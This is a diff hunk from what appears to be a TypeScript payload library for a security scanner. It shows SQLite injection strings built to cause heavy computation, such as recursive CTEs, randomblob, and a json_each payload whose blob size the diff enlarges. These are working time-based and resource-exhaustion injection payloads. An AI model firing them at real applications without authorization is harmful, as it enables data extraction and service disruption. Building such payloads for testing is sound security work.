@@ -102,7 +102,7 @@ export const SQLITE_PAYLOADS: readonly PayloadGroup[] = [
       "' OR (WITH RECURSIVE c(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM c WHERE n<1000000) SELECT COUNT(*) FROM c)>0 -- ",
       "' OR length(hex(randomblob(50000000)))>0 -- ",
       "' OR LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(30000000)))) -- ",
-      "' OR (SELECT COUNT(*) FROM json_each('['||substr(replace(hex(zeroblob(1000000)),'0','1,'),1,3999999)||']'))>0 -- ",
+      "' OR (SELECT COUNT(*) FROM json_each('['||substr(replace(hex(zeroblob(4000000)),'0','1,'),1,15999999)||']'))>0 -- ",
     ],
   },
   {
